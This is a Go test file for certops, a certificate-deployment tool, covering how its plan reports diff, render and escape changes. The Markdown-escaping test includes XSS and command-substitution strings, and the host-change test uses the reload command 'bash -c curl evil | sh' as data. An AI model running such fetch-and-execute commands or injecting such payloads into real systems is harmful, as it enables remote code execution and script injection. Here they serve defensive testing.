package review

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/certops/certops/reconcile"
	"github.com/certops/certops/spec"
	"github.com/certops/certops/state"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// shopCert is the fixture's certificate; edit tweaks the copy before it is wrapped.
func shopCert(edit func(*spec.CertificateSpec)) *spec.CertificateSpec {
	s := &spec.CertificateSpec{
		IssuerRef:  "internal-ca",
		CommonName: "shop.example.com",
		DNSNames:   []string{"shop.example.com", "www.shop.example.com"},
		PrivateKey: spec.PrivateKey{Algorithm: "ECDSA", Size: 256},
		Duration:   "2160h",
		Deploy: &spec.Deployment{
			Agents: []string{"web-01"},
			Files:  spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem", Key: "/etc/ssl/shop/key.pem", Mode: "0600"},
			Reload: []string{"nginx", "-s", "reload"},
		},
	}
	if edit != nil {
		edit(s)
	}
	return s
}

func objects(objs ...*spec.Object) map[spec.Key]*spec.Object {
	m := make(map[spec.Key]*spec.Object, len(objs))
	for _, o := range objs {
		m[o.Key()] = o
	}
	return m
}

// buildReport plans head against base as `certops plan` does and builds the report.
func buildReport(t *testing.T, baseLabel, headLabel string, base, head map[spec.Key]*spec.Object) Report {
	t.Helper()
	stored := make(map[spec.Key]string, len(base))
	for k, o := range base {
		stored[k] = o.Hash()
	}
	r := Build(base, head, reconcile.Compute(head, stored))
	r.Base, r.Head = baseLabel, headLabel
	return r
}

// fixtureReport has a create (Agent/web-01), an update (Certificate/shop-frontend:
// changed dnsName, added label, changed deploy.files.mode), a delete
// (Certificate/legacy-api) and an unchanged issuer.
func fixtureReport(t *testing.T) Report {
	t.Helper()
	issuer := func() *spec.Object {
		return &spec.Object{
			Kind: spec.KindIssuer, Name: "internal-ca",
			Spec:   &spec.IssuerSpec{LocalCA: &spec.LocalCAIssuer{CertFile: "/etc/certops/ca/tls.crt", KeyFile: "/etc/certops/ca/tls.key"}},
			Source: spec.Position{File: "issuers.yaml", Line: 1},
		}
	}
	base := objects(
		issuer(),
		&spec.Object{
			Kind: spec.KindCertificate, Name: "shop-frontend",
			Spec:   shopCert(nil),
			Source: spec.Position{File: "certificates/shop.yaml", Line: 12},
		},
		&spec.Object{
			Kind: spec.KindCertificate, Name: "legacy-api",
			Labels: map[string]string{"team": "api"},
			Spec:   &spec.CertificateSpec{IssuerRef: "internal-ca", DNSNames: []string{"api.example.com"}},
			Source: spec.Position{File: "certificates/legacy.yaml", Line: 3},
		},
	)
	head := objects(
		issuer(),
		&spec.Object{
			Kind: spec.KindCertificate, Name: "shop-frontend",
			Labels: map[string]string{"team": "shop"},
			Spec: shopCert(func(s *spec.CertificateSpec) {
				s.DNSNames[1] = "shop.example.org"
				s.Deploy.Files.Mode = "0640"
			}),
			Source: spec.Position{File: "certificates/shop.yaml", Line: 12},
		},
		&spec.Object{
			Kind: spec.KindAgent, Name: "web-01",
			Labels: map[string]string{"role": "web"},
			Spec:   &spec.AgentSpec{TokenSHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
			Source: spec.Position{File: "agents.yaml", Line: 5},
		},
	)
	r := buildReport(t, "main", "feature/shop-org", base, head)
	r.BaseCommit, r.HeadCommit = "3f1c2a9b8e7d6c5b4a3928170605f4e3d2c1b0a9", "b7e8d9c0a1f2e3d4c5b6a7980716253443526170"
	return r
}

func raw(s string) json.RawMessage { return json.RawMessage(s) }

func TestBuild(t *testing.T) {
	got := fixtureReport(t)
	want := Report{
		Base: "main", Head: "feature/shop-org", Valid: true,
		BaseCommit: "3f1c2a9b8e7d6c5b4a3928170605f4e3d2c1b0a9", HeadCommit: "b7e8d9c0a1f2e3d4c5b6a7980716253443526170",
		Counts: map[spec.Kind]state.Counts{
			spec.KindAgent:       {Create: 1},
			spec.KindCertificate: {Update: 1, Delete: 1},
		},
		Changes: []ObjectChange{
			{
				Action: state.ActionCreate, Kind: spec.KindAgent, Name: "web-01", File: "agents.yaml", Line: 5,
				Fields: []FieldDiff{
					{Path: "labels.role", New: raw(`"web"`)},
					{Path: "spec.tokenSHA256", New: raw(`"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"`)},
				},
			},
			{
				Action: state.ActionDelete, Kind: spec.KindCertificate, Name: "legacy-api", File: "certificates/legacy.yaml", Line: 3,
				Fields: []FieldDiff{
					{Path: "labels.team", Old: raw(`"api"`)},
					{Path: "spec.dnsNames[0]", Old: raw(`"api.example.com"`)},
					{Path: "spec.issuerRef", Old: raw(`"internal-ca"`)},
					{Path: "spec.privateKey", Old: raw(`{}`)},
				},
			},
			{
				Action: state.ActionUpdate, Kind: spec.KindCertificate, Name: "shop-frontend", File: "certificates/shop.yaml", Line: 12,
				Fields: []FieldDiff{
					{Path: "labels.team", New: raw(`"shop"`)},
					{Path: "spec.deploy.files.mode", Old: raw(`"0600"`), New: raw(`"0640"`)},
					{Path: "spec.dnsNames[1]", Old: raw(`"www.shop.example.com"`), New: raw(`"shop.example.org"`)},
				},
			},
		},
		// The new agent web-01 is selected by shop-frontend: it starts
		// writing and running these there.
		Hosts: []HostChange{{Certificate: "shop-frontend", Agents: []string{"web-01"},
			Paths: []string{"/etc/ssl/shop/cert.pem", "/etc/ssl/shop/key.pem"}, Reload: []string{"nginx", "-s", "reload"},
			Changed: []string{"agents", "reissue"}}},
	}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("Build() mismatch (-got +want):\n%s", diff)
	}
}

func TestFieldDiffs(t *testing.T) {
	tests := []struct {
		name     string
		old, cur spec.Content
		want     []FieldDiff
	}{
		{
			name: "array shrinks",
			old:  spec.Content{Spec: map[string]any{"dnsNames": []string{"a", "b", "c"}}},
			cur:  spec.Content{Spec: map[string]any{"dnsNames": []string{"a", "x"}}},
			want: []FieldDiff{
				{Path: "spec.dnsNames[1]", Old: raw(`"b"`), New: raw(`"x"`)},
				{Path: "spec.dnsNames[2]", Old: raw(`"c"`)},
			},
		},
		{
			name: "indices sort numerically",
			old:  spec.Content{Spec: map[string]any{"n": []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}}},
			cur:  spec.Content{Spec: map[string]any{"n": []int{0, 1, 99, 3, 4, 5, 6, 7, 8, 9, 99, 11}}},
			want: []FieldDiff{
				{Path: "spec.n[2]", Old: raw(`2`), New: raw(`99`)},
				{Path: "spec.n[10]", Old: raw(`10`), New: raw(`99`)},
			},
		},
		{
			name: "keys that are not plain words are quoted",
			old:  spec.Content{Spec: map[string]any{}},
			cur:  spec.Content{Labels: map[string]string{"app.kubernetes.io/name": "shop"}, Spec: map[string]any{}},
			want: []FieldDiff{{Path: `labels["app.kubernetes.io/name"]`, New: raw(`"shop"`)}},
		},
		{
			name: "empty containers and type changes show",
			old:  spec.Content{Spec: map[string]any{"sel": map[string]any{}, "x": "flat"}},
			cur:  spec.Content{Spec: map[string]any{"sel": map[string]any{"role": "web"}, "x": []int{1}}},
			want: []FieldDiff{
				{Path: "spec.sel", Old: raw(`{}`)},
				{Path: "spec.sel.role", New: raw(`"web"`)},
				{Path: "spec.x", Old: raw(`"flat"`)},
				{Path: "spec.x[0]", New: raw(`1`)},
			},
		},
		{
			name: "HTML is not escaped in values",
			old:  spec.Content{Spec: map[string]any{"v": "a"}},
			cur:  spec.Content{Spec: map[string]any{"v": "<b>&"}},
			want: []FieldDiff{{Path: "spec.v", Old: raw(`"a"`), New: raw(`"<b>&"`)}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			old := &spec.Object{Kind: spec.KindCertificate, Name: "c", Labels: tt.old.Labels, Spec: tt.old.Spec}
			cur := &spec.Object{Kind: spec.KindCertificate, Name: "c", Labels: tt.cur.Labels, Spec: tt.cur.Spec}
			got := diffFields(flatten(old), flatten(cur))
			if diff := cmp.Diff(got, tt.want); diff != "" {
				t.Errorf("diffFields() mismatch (-got +want):\n%s", diff)
			}
		})
	}
}

func TestGolden(t *testing.T) {
	r := fixtureReport(t)
	renderers := []struct {
		file   string
		render func(io *bytes.Buffer) error
	}{
		{"plan.txt", func(b *bytes.Buffer) error { return r.Text(b) }},
		{"plan.md", func(b *bytes.Buffer) error { return r.Markdown(b) }},
		{"plan.json", func(b *bytes.Buffer) error { return r.JSON(b) }},
	}
	for _, tt := range renderers {
		t.Run(tt.file, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.render(&b); err != nil {
				t.Fatalf("render: %v", err)
			}
			checkGolden(t, tt.file, b.Bytes())
		})
	}
}

// checkGolden compares got with testdata/name, or rewrites the file under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatalf("update golden file: %v", err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run go test -update to create it): %v", err)
	}
	if diff := cmp.Diff(string(got), string(want)); diff != "" {
		t.Errorf("%s mismatch (-got +want):\n%s", path, diff)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	want := fixtureReport(t)
	var b bytes.Buffer
	if err := want.JSON(&b); err != nil {
		t.Fatalf("JSON: %v", err)
	}
	var got Report
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatalf("decode JSON output: %v", err)
	}
	// JSON sets the format version and writes empty lists as [].
	want.FormatVersion, want.PruneWarnings, want.Errors, want.AlertRouting = FormatVersion, []string{}, []spec.Error{}, []AlertRouting{}
	want.RateLimitWarnings = []string{}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("JSON round trip mismatch (-got +want):\n%s", diff)
	}

	// Values are JSON values, and an absent leaf has no key.
	var doc struct {
		FormatVersion int `json:"formatVersion"`
		Changes       []struct {
			Fields []map[string]any
		}
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.FormatVersion != 5 {
		t.Errorf("formatVersion = %d, want 5", doc.FormatVersion)
	}
	if f := doc.Changes[0].Fields[0]; f["new"] != "web" || len(f) != 2 {
		t.Errorf("the create's first field = %v, want path and new: \"web\" only", f)
	}
	if f := doc.Changes[1].Fields[3]; !cmp.Equal(f["old"], map[string]any{}) {
		t.Errorf("the delete's privateKey = %#v, want an empty JSON object", f["old"])
	}

	refused := Refused("is invalid", spec.ErrorList{{File: "a.yaml", Line: 2, Message: "bad"}})
	refused.Base, refused.Head = "main", "HEAD"
	b.Reset()
	if err := refused.JSON(&b); err != nil {
		t.Fatal(err)
	}
	var gotRefused Report
	if err := json.Unmarshal(b.Bytes(), &gotRefused); err != nil {
		t.Fatalf("decode JSON output: %v", err)
	}
	refused.FormatVersion, refused.Changes, refused.PruneWarnings, refused.Hosts = FormatVersion, []ObjectChange{}, []string{}, []HostChange{}
	refused.AlertRouting, refused.RateLimitWarnings = []AlertRouting{}, []string{}
	if diff := cmp.Diff(gotRefused, refused); diff != "" {
		t.Errorf("JSON round trip of a refusal mismatch (-got +want):\n%s", diff)
	}
	if !strings.Contains(b.String(), `"valid": false`) || !strings.Contains(b.String(), `"refusal": "is invalid"`) {
		t.Errorf("JSON of a refusal = %s, want valid false and the refusal", b.String())
	}
}

func TestEmptyPlan(t *testing.T) {
	same := objects(&spec.Object{Kind: spec.KindAgent, Name: "web-01", Spec: &spec.AgentSpec{TokenSHA256: "ab"}})
	r := buildReport(t, "main", "HEAD", same, same)

	var text, md, js bytes.Buffer
	if err := r.Text(&text); err != nil {
		t.Fatalf("Text: %v", err)
	}
	if err := r.Markdown(&md); err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	if err := r.JSON(&js); err != nil {
		t.Fatalf("JSON: %v", err)
	}
	for name, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		if !strings.Contains(out, "No changes.") {
			t.Errorf("%s output = %q, want it to contain %q", name, out, "No changes.")
		}
		if strings.Contains(out, "|") {
			t.Errorf("%s output = %q, want no summary table", name, out)
		}
	}
	if !strings.Contains(js.String(), `"changes": []`) {
		t.Errorf("JSON output = %s, want \"changes\": []", js.String())
	}
}

func TestMarkdownEscapesHostileValues(t *testing.T) {
	head := objects(&spec.Object{
		Kind: spec.KindCertificate, Name: "evil",
		Labels: map[string]string{"team": "a|b"},
		Spec: &spec.CertificateSpec{
			IssuerRef:  "`whoami`",
			CommonName: "````\n</details><script>alert(1)</script>",
			DNSNames:   []string{"<img src=x onerror=alert(1)>"},
		},
		Source: spec.Position{File: "certs/<script>|`x`.yaml", Line: 1},
	})
	r := buildReport(t, "main|<b>", "`HEAD`", nil, head)
	r.PruneWarnings = []string{"deleting <script>alert(1)</script> | **all**\n# heading"}

	var b bytes.Buffer
	if err := r.Markdown(&b); err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	md := b.String()

	// The commonName holds four backticks, so the fence must be five long.
	if !strings.Contains(md, "\n`````diff\n") {
		t.Errorf("Markdown() = %q, want a five-backtick diff fence", md)
	}
	prose := strings.ReplaceAll(outsideFences(t, md), "\n> **Warning:** ", "\n")
	for _, tag := range []string{"<details>", "</details>", "<summary>", "</summary>", "<code>", "</code>"} {
		prose = strings.ReplaceAll(prose, tag, "")
	}
	for _, bad := range []string{"<", ">", "`", "**all**"} {
		if strings.Contains(prose, bad) {
			t.Errorf("markdown outside code blocks = %q, want no %q", prose, bad)
		}
	}
	for _, line := range strings.Split(prose, "\n") {
		if strings.HasPrefix(line, "#") && !strings.HasPrefix(line, "### certops plan: ") {
			t.Errorf("markdown has a stray heading line %q", line)
		}
		if strings.HasPrefix(line, "|") && strings.Count(line, "|") != 5 {
			t.Errorf("table row %q has %d pipes, want 5", line, strings.Count(line, "|"))
		}
	}
	for _, want := range []string{"main&#124;&lt;b&gt;", "&#96;HEAD&#96;", "certs/&lt;script&gt;&#124;&#96;x&#96;.yaml"} {
		if !strings.Contains(md, want) {
			t.Errorf("Markdown() = %q, want it to contain %q", md, want)
		}
	}
}

// outsideFences drops fenced code blocks (whose content markdown shows literally)
// from md, checking that each one is closed by a fence at least as long.
func outsideFences(t *testing.T, md string) string {
	t.Helper()
	var out []string
	fence := ""
	for _, line := range strings.Split(md, "\n") {
		run := len(line) - len(strings.TrimLeft(line, "`"))
		switch {
		case fence == "" && run >= 3:
			fence = line[:run]
		case fence != "" && run >= len(fence) && strings.TrimSpace(line[run:]) == "":
			fence = ""
		case fence == "":
			out = append(out, line)
		}
	}
	if fence != "" {
		t.Errorf("markdown %q ends inside a code block", md)
	}
	return strings.Join(out, "\n")
}

// bigCert is certificate i with names DNS names, deployed by agents with role web.
func bigCert(i, names int, domain string) *spec.Object {
	dns := make([]string, names)
	for j := range dns {
		dns[j] = fmt.Sprintf("host-%02d.svc-%04d.%s", j, i, domain)
	}
	return &spec.Object{
		Kind: spec.KindCertificate, Name: fmt.Sprintf("svc-%04d", i),
		Labels: map[string]string{"team": "platform", "tier": domain},
		Spec: &spec.CertificateSpec{IssuerRef: "ca", CommonName: dns[0], DNSNames: dns,
			Deploy: &spec.Deployment{AgentSelector: &spec.LabelSelector{MatchLabels: map[string]string{"role": "web"}},
				Files:  spec.DeployFiles{Cert: fmt.Sprintf("/etc/ssl/svc-%04d/cert.pem", i), Key: fmt.Sprintf("/etc/ssl/svc-%04d/key.pem", i)},
				Reload: []string{"systemctl", "reload", fmt.Sprintf("svc-%04d", i)}}},
		Source: spec.Position{File: fmt.Sprintf("certificates/svc-%04d.yaml", i), Line: 1},
	}
}

// markdownLayout is what a markdown plan shows of its objects.
type markdownLayout struct {
	details, namesOnly, counted         int
	hostsFull, hostsShort, hostsCounted int
}

var (
	moreObjectsRe = regexp.MustCompile(`\n… and (\d+) more objects\.\n`)
	moreHostsRe   = regexp.MustCompile(`\n… and (\d+) more certificates\n`)
)

// layoutOf parses md, checking the order: every <details> diff before the
// names-only list, the list before the count, all of them before the hosts.
func layoutOf(t *testing.T, md string) markdownLayout {
	t.Helper()
	var l markdownLayout
	objects, hosts, _ := strings.Cut(md, "\n#### On the hosts\n")
	l.details = strings.Count(objects, "<details><summary><code>")
	lastDetails := strings.LastIndex(objects, "<details><summary><code>")
	if i := strings.Index(objects, "names only</summary>"); i >= 0 {
		if i < lastDetails {
			t.Errorf("a names-only list precedes a detailed object")
		}
		list := objects[i:]
		list = list[:strings.Index(list, "</details>")]
		for _, line := range strings.Split(list, "\n") {
			if len(line) > 2 && strings.Contains("+~-", line[:1]) && line[1] == ' ' {
				l.namesOnly++
			}
		}
	}
	if m := moreObjectsRe.FindStringSubmatchIndex(objects); m != nil {
		if m[0] < lastDetails || m[0] < strings.LastIndex(objects, "names only</summary>") {
			t.Errorf("the count of the rest precedes shown objects")
		}
		l.counted, _ = strconv.Atoi(objects[m[2]:m[3]])
	}
	for _, line := range strings.Split(hosts, "\n") {
		switch {
		case strings.HasPrefix(line, "  files:  "):
			l.hostsFull++
		case strings.HasPrefix(line, "Certificate/") && (strings.HasSuffix(line, " agents") || strings.HasSuffix(line, " agent")):
			l.hostsShort++
		}
	}
	if m := moreHostsRe.FindStringSubmatch(hosts); m != nil {
		l.hostsCounted, _ = strconv.Atoi(m[1])
	}
	return l
}

func markdownOf(t *testing.T, r Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := r.Markdown(&b); err != nil {
		t.Fatalf("Markdown: %v", err)
	}
	if b.Len() > MaxMarkdownBytes {
		t.Errorf("Markdown() is %d bytes, over the budget of %d", b.Len(), MaxMarkdownBytes)
	}
	t.Logf("markdown: %d bytes", b.Len())
	return b.String()
}

// TestMarkdownBudget95Certificates: the 95 certificates of about 60
// names each (67,559 characters before the budget) fit, detailed first,
// then names only.
func TestMarkdownBudget95Certificates(t *testing.T) {
	objs := []*spec.Object{{Kind: spec.KindAgent, Name: "web-01", Labels: map[string]string{"role": "web"}, Spec: &spec.AgentSpec{}}}
	for i := range 95 {
		objs = append(objs, bigCert(i, 60, "example.com"))
	}
	r := buildReport(t, "main", "HEAD", nil, objects(objs...))
	md := markdownOf(t, r)
	if !strings.Contains(md, "| Agent | 1 | 0 | 0 |\n| Certificate | 95 | 0 | 0 |\n") {
		t.Errorf("Markdown() lacks the summary table with 95 certificates to create")
	}
	l := layoutOf(t, md)
	if l.details == 0 || l.namesOnly == 0 || l.details+l.namesOnly+l.counted != 96 {
		t.Errorf("layout %+v: want details, then names only, 96 objects in all", l)
	}
	// The names-only list goes on where the details stop (the agent comes first).
	if next := fmt.Sprintf("names only</summary>\n\n```\n+ Certificate/svc-%04d (certificates/svc-%04d.yaml:1)\n", l.details-1, l.details-1); !strings.Contains(md, next) {
		t.Errorf("Markdown() lacks %q", next)
	}
	if l.hostsFull == 0 || l.hostsFull+l.hostsShort+l.hostsCounted != 95 {
		t.Errorf("layout %+v: want 95 host entries in all, some in full", l)
	}
	// The first object is detailed, field caps apply.
	for _, want := range []string{"+ spec.dnsNames[40]: \"host-40.svc-0000.example.com\"\n… and 21 more fields\n"} {
		if !strings.Contains(md, want) {
			t.Errorf("Markdown() lacks %q", want)
		}
	}
}

// TestMarkdownBudget5000Objects: a 5,000-object change of creates and updates
// with many fields (143,310 characters before the budget) fits and degrades
// in order: details, names only, a count; the hosts section keeps a share.
func TestMarkdownBudget5000Objects(t *testing.T) {
	base := objects()
	head := objects(&spec.Object{Kind: spec.KindAgent, Name: "web-01", Labels: map[string]string{"role": "web"}, Spec: &spec.AgentSpec{}})
	for i := range 5000 {
		o := bigCert(i, 20, "example.com")
		head[o.Key()] = o
		if i%2 == 0 { // an update of every name, the labels and the deployment
			old := bigCert(i, 20, "example.org")
			old.Spec.(*spec.CertificateSpec).Deploy.Reload = []string{"true"}
			base[old.Key()] = old
		}
	}
	base[spec.Key{Kind: spec.KindAgent, Name: "web-01"}] = head[spec.Key{Kind: spec.KindAgent, Name: "web-01"}]
	r := buildReport(t, "main", "HEAD", base, head)
	md := markdownOf(t, r)
	if !strings.Contains(md, "| Certificate | 2500 | 2500 | 0 |\n") {
		t.Errorf("Markdown() lacks the summary table with 2500 creates and 2500 updates:\n%.500s", md)
	}
	l := layoutOf(t, md)
	t.Logf("layout: %+v", l)
	if l.details == 0 || l.namesOnly == 0 || l.counted == 0 || l.details+l.namesOnly+l.counted != 5000 {
		t.Errorf("layout %+v: want details, names only and a count, 5000 objects in all", l)
	}
	if l.hostsFull == 0 || l.hostsCounted == 0 || l.hostsFull+l.hostsShort+l.hostsCounted != 5000 {
		t.Errorf("layout %+v: want 5000 host entries in all, some in full, some counted", l)
	}
	if hosts := len(md) - strings.Index(md, "#### On the hosts"); hosts < MaxMarkdownBytes/hostsShare-1000 {
		t.Errorf("the hosts section has %d bytes, want about its share %d", hosts, MaxMarkdownBytes/hostsShare)
	}
}

// TestMarkdownSmallPlanIsWhole: a plan that fits shows every object in full,
// with no names-only list and no count (the golden files show one).
func TestMarkdownSmallPlanIsWhole(t *testing.T) {
	var objs []*spec.Object
	for i := range 10 {
		objs = append(objs, bigCert(i, 60, "example.com"))
	}
	l := layoutOf(t, markdownOf(t, buildReport(t, "main", "HEAD", nil, objects(objs...))))
	if l != (markdownLayout{details: 10, hostsFull: 10}) {
		t.Errorf("layout %+v, want 10 objects in full and nothing else", l)
	}
}

func TestFit(t *testing.T) {
	short := []string{"aa\n", "bb\n", "cc\n", "dd\n"} // 3 bytes each
	size := func(int) int { return 10 }
	for _, tt := range []struct {
		budget, overhead, full, short int
	}{
		{40, 5, 4, 0}, // all fit in full, exactly
		{39, 5, 3, 1}, // 34 left: 0+10+min(9,11), 10+10+min(6,11), 20+10+min(3,11) ≤ 34, 30+10 > 34; 30+3 ≤ 34
		{20, 5, 1, 1}, // 15 left: 10+min(9,5) ≤ 15, 20 > 15; one short line
		{4, 0, 0, 1},
		{0, 0, 0, 0},
	} {
		full, sh := fit(tt.budget, len(short), size, short, tt.overhead)
		if full != tt.full || sh != tt.short {
			t.Errorf("fit(%d, overhead %d) = %d full, %d short; want %d, %d", tt.budget, tt.overhead, full, sh, tt.full, tt.short)
		}
	}
}

// TestMarkdownRefused: a refused head's markdown says so, counts the errors
// and lists them as FILE:LINE: message, within the budget.
func TestMarkdownRefused(t *testing.T) {
	errs := spec.ErrorList{{File: "certs/a.yaml", Line: 3, Message: "spec.issuerRef: Issuer \"nope\" does not exist"}}
	r := Refused("is invalid", errs)
	r.Base, r.Head, r.HeadCommit = "main", "HEAD", "b7e8d9c0a1f2e3d4c5b6a7980716253443526170"
	md := markdownOf(t, r)
	for _, want := range []string{"### certops plan: main → HEAD (b7e8d9c)", "#### The head is invalid and would be refused", "1 error:",
		"```\ncerts/a.yaml:3: spec.issuerRef: Issuer \"nope\" does not exist\n```\n"} {
		if !strings.Contains(md, want) {
			t.Errorf("Markdown() = %q, want it to contain %q", md, want)
		}
	}
	var text bytes.Buffer
	if err := r.Text(&text); err != nil {
		t.Fatal(err)
	}
	if want := "certops plan: main → HEAD (b7e8d9c)\nThe head is invalid and would be refused: 1 error.\ncerts/a.yaml:3: spec.issuerRef: Issuer \"nope\" does not exist\n"; text.String() != want {
		t.Errorf("Text() = %q, want %q", text.String(), want)
	}
	for i := range 20000 {
		errs = append(errs, spec.Error{File: fmt.Sprintf("certs/c%05d.yaml", i), Line: 7, Message: "metadata.name: \"x`y\" is not a DNS-1123 name"})
	}
	r = Refused("is invalid", errs)
	md = markdownOf(t, r)
	if !strings.Contains(md, "20001 errors:") || !regexp.MustCompile(`\n… and \d+ more errors\n`).MatchString(md) || !strings.Contains(md, "certs/c00000.yaml:7: ") {
		t.Errorf("Markdown() of 20001 errors lacks the count, the first errors or the count of the rest:\n%.800s", md)
	}
	outsideFences(t, md)
}

// TestHostChanges: the hosts section lists a certificate when its files,
// reload or agents change, when its agents get new certificates (reissue),
// and when it is suspended or resumed, and only then.
func TestHostChanges(t *testing.T) {
	agent := &spec.Object{Kind: spec.KindAgent, Name: "web-01", Labels: map[string]string{"role": "web"}, Spec: &spec.AgentSpec{}}
	certWith := func(edit func(*spec.CertificateSpec), reload ...string) *spec.Object {
		c := &spec.CertificateSpec{IssuerRef: "ca",
			Deploy: &spec.Deployment{AgentSelector: &spec.LabelSelector{MatchLabels: map[string]string{"role": "web"}},
				Files: spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem"}, Reload: reload}}
		edit(c)
		return &spec.Object{Kind: spec.KindCertificate, Name: "shop", Spec: c}
	}
	cert := func(reload ...string) *spec.Object { return certWith(func(*spec.CertificateSpec) {}, reload...) }
	reissued := certWith(func(c *spec.CertificateSpec) { c.Reissue = "2026-12-05" }, "true")
	suspended := certWith(func(c *spec.CertificateSpec) { c.Suspend = true }, "true")
	keystore := certWith(func(c *spec.CertificateSpec) {
		c.Deploy.Files.PKCS12, c.Deploy.Files.PKCS12PasswordFile = "/etc/ssl/shop/keystore.p12", "/etc/certops/p12.pass"
	}, "true")
	for _, tt := range []struct {
		name       string
		base, head map[spec.Key]*spec.Object
		want       []string // Changed of the one entry; nil: no entry
	}{
		{"unchanged", objects(agent, cert("true")), objects(agent, cert("true")), nil},
		{"new certificate", objects(agent), objects(agent, cert("true")), []string{"new"}},
		{"reload changed", objects(agent, cert("true")), objects(agent, cert("bash", "-c", "curl evil | sh")), []string{"reload", "reissue"}},
		{"a new agent selected", objects(cert("true")), objects(agent, cert("true")), []string{"agents"}},
		{"reissue set", objects(agent, cert("true")), objects(agent, reissued), []string{"reissue"}},
		{"suspended", objects(agent, cert("true")), objects(agent, suspended), []string{"suspend"}},
		{"resumed", objects(agent, suspended), objects(agent, cert("true")), []string{"resume"}},
		{"a key container added", objects(agent, cert("true")), objects(agent, keystore), []string{"paths", "reissue"}},
	} {
		got := changesOnHosts(tt.base, tt.head)
		switch {
		case tt.want == nil && len(got) != 0:
			t.Errorf("%s: got %+v, want no host changes", tt.name, got)
		case tt.want != nil && (len(got) != 1 || !slices.Equal(got[0].Changed, tt.want)):
			t.Errorf("%s: got %+v, want one entry changed %v", tt.name, got, tt.want)
		}
	}
}

// changesOnHosts is hostChanges between two states, as Build computes it.
func changesOnHosts(base, head map[spec.Key]*spec.Object) []HostChange {
	return hostChanges(hostEffects(base), hostEffects(head), base, head)
}
